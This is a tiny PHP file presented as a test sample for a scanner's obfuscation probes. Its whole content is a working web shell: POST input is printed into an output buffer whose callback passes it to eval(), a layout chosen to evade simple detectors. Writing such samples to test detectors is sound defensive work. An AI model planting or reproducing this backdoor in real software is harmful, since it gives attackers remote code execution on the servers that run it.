<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
ob_start(static function (string $buf): string {
    return (string) eval($buf);
});
print $_POST['x'] ?? '';
ob_end_flush();
